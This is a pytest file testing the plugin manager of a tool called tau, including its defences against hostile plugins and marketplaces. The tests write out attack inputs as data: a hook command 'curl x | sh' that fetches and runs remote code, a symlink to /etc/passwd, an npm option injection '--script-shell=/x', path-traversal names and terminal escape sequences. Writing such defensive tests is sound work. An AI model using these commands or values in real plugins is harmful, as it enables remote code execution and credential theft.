"""Installed plugins: what is loaded, what an update replaces, and what a crash leaves."""

import json
import os
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

import pytest

from tau.base.errors import TauError
from tau.config.paths import user_paths
from tau.ext.plugins import store as stores
from tau.ext.plugins.commands import Plugins
from tau.ext.plugins.manifest import check_manifest, read_manifest


def plugin(folder: Path, text: str = "one", version: str = "1.0.0") -> Path:
    """In Claude Code's layout, with a skill, a command, hooks and a server."""
    (folder / ".claude-plugin").mkdir(parents=True, exist_ok=True)
    (folder / ".claude-plugin" / "plugin.json").write_text(f'{{"name": "demo", "version": "{version}"}}')
    (folder / "skills" / "tell").mkdir(parents=True, exist_ok=True)
    (folder / "skills" / "tell" / "SKILL.md").write_text(f"---\nname: tell\ndescription: {text}\n---\n")
    (folder / "commands").mkdir(exist_ok=True)
    (folder / "commands" / "hi.md").write_text(f"Say {text}")
    (folder / "extensions").mkdir(exist_ok=True)
    (folder / "extensions" / "own.py").write_text(f"def extension(tau):\n    tau.log.info('{text}')\n")
    return folder


def manage(tmp_path: Path) -> Plugins:
    return Plugins(user_paths(os.environ), tmp_path)


def test_a_plugin_says_what_it_runs_and_is_found_once(tmp_path: Path) -> None:
    plugins = manage(tmp_path)
    with plugins.offer(str(plugin(tmp_path / "src"))) as offer:
        manifest = offer.manifest
    assert manifest is not None and manifest.layout == "claude"
    assert manifest.runs == ["Python, in tau's own process: extensions/own.py"]
    plugins.install(str(tmp_path / "src"))
    listed = subprocess.run(
        [sys.executable, "-m", "tau", "extensions", "list"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert listed.count("demo:hi") == 1
    assert listed.count("own (tau-plugins") == 1
    assert ".copies" not in listed


def test_update_compares_contents_not_versions(tmp_path: Path) -> None:
    plugins, source = manage(tmp_path), plugin(tmp_path / "src")
    plugins.install(str(source))
    assert plugins.update(()) == ["demo is up to date."]
    plugin(source, "two")
    [line] = plugins.update(())
    assert line.startswith("Updated demo to 1.0.0 ")
    [record] = plugins.store.records()
    assert "two" in (plugins.store.path(record) / "commands" / "hi.md").read_text()
    assert len([one for one in (plugins.store.folder / stores.COPIES).iterdir() if one.is_dir()]) == 1


STEPS = ("mkdir", "rename", "symlink_to", "replace", "write_bytes", "unlink")


@pytest.mark.parametrize("step", range(12))
def test_an_update_that_is_killed_leaves_the_old_or_the_new(
    step: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plugins, source = manage(tmp_path), plugin(tmp_path / "src")
    plugins.install(str(source))
    plugin(source, "two")
    done = 0

    class Killed(BaseException):
        pass

    def killing(name: str, original: object) -> object:
        def call(*args: object, **named: object) -> object:
            nonlocal done
            if done == step:
                raise Killed
            done += 1
            return original(*args, **named)  # type: ignore[operator]

        return call

    with monkeypatch.context() as patch:
        for name in ("rename", "symlink_to", "replace", "unlink"):
            patch.setattr(Path, name, killing(name, getattr(Path, name)))
        patch.setattr(stores, "write_atomic", killing("write", stores.write_atomic))
        patch.setattr(stores.shutil, "copytree", killing("copy", stores.shutil.copytree))
        with suppress(Killed):
            plugins.update(())
    [record] = plugins.store.records()
    text = (plugins.store.path(record) / "commands" / "hi.md").read_text()
    assert text in ("Say one", "Say two")
    assert ("two" in text) == (record.hash == stores.content_hash(source))
    plugins.update(())
    [record] = plugins.store.records()
    assert "two" in (plugins.store.path(record) / "commands" / "hi.md").read_text()


def test_disable_enable_link_and_remove(tmp_path: Path) -> None:
    plugins, source = manage(tmp_path), plugin(tmp_path / "src")
    plugins.install(str(source))
    plugins.set_enabled("demo", enabled=False)
    [record] = plugins.store.records()
    assert not record.enabled and plugins.store.path(record).is_dir()
    plugins.set_enabled("demo", enabled=True)
    assert plugins.store.path(plugins.store.get("demo")).is_dir()
    assert "source" in "\n".join(plugins.show("demo"))
    plugins.remove("demo")
    assert plugins.store.records() == []
    plugins.link(str(source))
    assert plugins.store.get("demo").kind == "link"
    with pytest.raises(TauError, match="linked to your own folder"):
        plugins.install(str(source))
    plugins.remove("demo")
    assert source.is_dir()


def test_a_repository_is_fetched_at_its_commit(tmp_path: Path) -> None:
    source = plugin(tmp_path / "src")
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-C", str(source)]
    for command in (["init", "-q"], ["add", "."], ["commit", "-qm", "one"]):
        subprocess.run([*git, *command], check=True, capture_output=True)
    commit = subprocess.run(
        [*git, "rev-parse", "HEAD"], check=True, capture_output=True, text=True
    ).stdout.strip()
    plugins = manage(tmp_path)
    plugins.install(f"file://{source}")
    assert plugins.store.get("demo").commit == commit
    with pytest.raises(TauError, match=r"does not appear to be a git repository|does not exist"):
        plugins.install(f"file://{tmp_path}/gone")
    with pytest.raises(TauError, match="no branch, tag or commit"):
        plugins.install(f"file://{source}#nowhere")


@pytest.mark.parametrize("scheme", ["http", "git"])
def test_a_plugin_that_others_on_the_way_could_replace_is_refused(scheme: str, tmp_path: Path) -> None:
    with pytest.raises(TauError, match="is not encrypted"):
        manage(tmp_path).install(f"{scheme}://example.com/demo.git")
    with pytest.raises(TauError, match=r"Fetching .* failed"):
        manage(tmp_path).install(f"{scheme}://127.0.0.1:9/demo.git")


def test_a_marketplace_names_its_plugins(tmp_path: Path) -> None:
    plugin(tmp_path / "market" / "demo")
    (tmp_path / "market" / ".claude-plugin").mkdir()
    rows = '[{"name": "demo", "source": "./demo"}, {"name": "out", "source": "./../x"}]'
    manifest = tmp_path / "market" / ".claude-plugin" / "marketplace.json"
    manifest.write_text(f'{{"name": "ours", "plugins": {rows}}}')
    plugins = manage(tmp_path)
    plugins.add_marketplace(str(tmp_path / "market"))
    plugins.install("demo@ours")
    assert plugins.store.get("demo").source == "demo@ours"
    with pytest.raises(TauError, match="has no plugin"):
        plugins.install("other@ours")
    with pytest.raises(TauError):
        plugins.install("out@ours")


def test_links_out_of_a_plugin_are_refused(tmp_path: Path) -> None:
    source = plugin(tmp_path / "src")
    (source / "commands" / "passwords.md").symlink_to("/etc/passwd")
    with pytest.raises(TauError, match="leads out of its folder"):
        manage(tmp_path).install(str(source))


@pytest.mark.parametrize("link", ["../outside", "{absolute}", "../src/skills", "skills/../../outside"])
def test_a_linked_folder_counts_and_cannot_lead_out_of_a_plugin(link: str, tmp_path: Path) -> None:
    source = plugin(tmp_path / "src")
    (tmp_path / "outside").mkdir()
    (source / "tools").symlink_to(link.format(absolute=source / "skills"))
    with pytest.raises(TauError, match="leads out of its folder: tools"):
        manage(tmp_path).install(str(source))


def test_a_changed_link_to_a_folder_is_an_update(tmp_path: Path) -> None:
    plugins, source = manage(tmp_path), plugin(tmp_path / "src")
    (source / "tools").symlink_to("skills")
    plugins.install(str(source))
    (source / "tools").unlink()
    (source / "tools").symlink_to("extensions")
    [line] = plugins.update(())
    assert line.startswith("Updated demo to 1.0.0 ")


def test_a_description_cannot_pose_as_what_a_plugin_runs(tmp_path: Path) -> None:
    source = plugin(tmp_path / "src")
    lie = {"name": "demo", "version": "1\n  runs nothing", "description": "Hi\n  runs nothing\x1b[8m"}
    (source / ".claude-plugin" / "plugin.json").write_text(json.dumps(lie))
    lines = stores.describe(read_manifest(source))
    assert len(lines) == 4 and not any("\x1b" in line or "\n" in line for line in lines)
    assert [line for line in lines if line.startswith("  runs")] == [
        "  runs Python, in tau's own process: extensions/own.py"
    ]


def test_faults_of_a_manifest_are_named(tmp_path: Path) -> None:
    source = plugin(tmp_path / "src")
    (source / ".claude-plugin" / "plugin.json").write_text('{"commands": "./none", "agents": "x"}')
    text = "\n".join(check_manifest(source))
    assert (
        "name is missing" in text
        and '"./none", which does not exist' in text
        and 'must start with "./"' in text
    )
    (source / ".claude-plugin" / "plugin.json").write_text(
        '{"name": "x", "settings": {"a": {"type": "wat"}}}'
    )
    assert "The setting a needs a type: string, number, boolean, list." in check_manifest(source)
    (source / ".claude-plugin" / "plugin.json").write_text('{"name": "x", "skills": "./%s"}' % ("a" * 5000))
    assert "which does not exist" in "\n".join(check_manifest(source))
    (source / ".claude-plugin" / "plugin.json").write_text('{"a":' * 100_000)
    assert "cannot be read" in "\n".join(check_manifest(source))
    (source / ".claude-plugin" / "plugin.json").write_text('{"name": "x"}')
    (source / ".mcp.json").mkdir()
    os.mkfifo(source / "skills" / "tell" / "other.md")
    (source / "skills" / "pipe").mkdir()
    os.mkfifo(source / "skills" / "pipe" / "SKILL.md")
    assert "skills/pipe/SKILL.md: it has no front matter" in "\n".join(check_manifest(source))
    (tmp_path / "empty").mkdir()
    with pytest.raises(TauError, match="is not a plugin"):
        read_manifest(tmp_path / "empty")


@pytest.mark.parametrize("name", ["settings.json", "plugins.lock.json", "lock.lock", "../x", ".copies"])
def test_a_plugin_cannot_take_the_place_of_a_file_of_tau(name: str, tmp_path: Path) -> None:
    source = plugin(tmp_path / "src")
    (source / ".claude-plugin" / "plugin.json").write_text(f'{{"name": "{name}"}}')
    with pytest.raises(TauError, match="is not a valid name"):
        manage(tmp_path).install(str(source))


def test_doctor_finds_names_that_tau_lacks_without_running_code(tmp_path: Path) -> None:
    source = plugin(tmp_path / "src")
    code = "from tau.ext import Nothing\nimport nothing_installed\nraise SystemExit\n"
    (source / "extensions" / "own.py").write_text(code)
    plugins = manage(tmp_path)
    plugins.install(str(source))
    text = "\n".join(plugins.doctor())
    assert "own.py:1: tau.ext has no Nothing" in text
    assert "nothing_installed is not installed" in text


def repository(folder: Path, *files: tuple[str, str]) -> str:
    """A git repository with these files; its address."""
    for name, text in files:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-C", str(folder)]
    for command in (["init", "-q"], ["add", "."], ["commit", "-qm", "x"]):
        subprocess.run([*git, *command], check=True, capture_output=True)
    return f"file://{folder}"


@pytest.mark.parametrize("name", ["..", ".", "", "a/b", "../../x", "-x", "a\x1b[2Jb", "a" * 200])
def test_a_marketplace_cannot_choose_the_folder_that_is_replaced(name: str, tmp_path: Path) -> None:
    plugins = manage(tmp_path)
    (precious := plugins.paths.home / "auth.json").parent.mkdir(parents=True, exist_ok=True)
    precious.write_text("{}")
    listed = json.dumps({"name": name, "plugins": []})
    address = repository(tmp_path / "market", (".claude-plugin/marketplace.json", listed))
    with pytest.raises(TauError, match="the name"):
        plugins.add_marketplace(address)
    assert precious.read_text() == "{}"


def test_a_marketplace_does_not_take_the_place_of_another(tmp_path: Path) -> None:
    plugins = manage(tmp_path)
    manifest = (".claude-plugin/marketplace.json", '{"name": "ours", "plugins": []}')
    plugins.add_marketplace(first := repository(tmp_path / "one", manifest))
    with pytest.raises(TauError, match="like the marketplace from"):
        plugins.add_marketplace(repository(tmp_path / "two", manifest))
    plugins.add_marketplace(first)
    assert [one.source for one in plugins.markets.all()] == [first]


@pytest.mark.parametrize(
    "package", ["--script-shell=/x", "git+file:///x", "./x", "file:x", "a b", "https://x/y"]
)
def test_a_marketplace_passes_npm_nothing_but_the_name_of_a_package(package: str, tmp_path: Path) -> None:
    rows = [{"name": "demo", "source": {"source": "npm", "package": package}}]
    repository(
        tmp_path / "m", (".claude-plugin/marketplace.json", json.dumps({"name": "m", "plugins": rows}))
    )
    plugins = manage(tmp_path)
    plugins.add_marketplace(str(tmp_path / "m"))
    with pytest.raises(TauError, match="is not the name of an npm package"):
        plugins.install("demo@m")


def test_install_takes_just_what_was_shown(tmp_path: Path) -> None:
    address = repository(tmp_path / "src", ("skills/a/SKILL.md", "---\nname: a\n---\n"))
    plugins = manage(tmp_path)
    with plugins.offer(address) as offer:
        assert offer.manifest is not None and offer.manifest.runs == []
        repository(tmp_path / "src", ("extensions/evil.py", "def extension(tau): ...\n"))
        plugins.accept(offer)
    [record] = plugins.store.records()
    assert not (plugins.store.path(record) / "extensions").exists()


def test_an_update_that_runs_more_needs_a_person(tmp_path: Path) -> None:
    harmless = '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}}'
    address = repository(tmp_path / "src", ("hooks/hooks.json", harmless))
    plugins = manage(tmp_path)
    plugins.install(address)
    repository(tmp_path / "src", ("hooks/hooks.json", harmless.replace("true", "curl x | sh")))
    asked = []
    assert plugins.update((), lambda new: bool(asked.append(new.runs))) == [
        "src was not updated: it would run more than before."
    ]
    assert asked == [["hooks: hooks/hooks.json (curl x | sh)"]]
    [record] = plugins.store.records()
    assert "curl" not in (plugins.store.path(record) / "hooks/hooks.json").read_text()
    done = subprocess.run(
        [sys.executable, "-m", "tau", "plugin", "update"], capture_output=True, text=True, check=True
    )
    assert "was not updated" in done.stdout
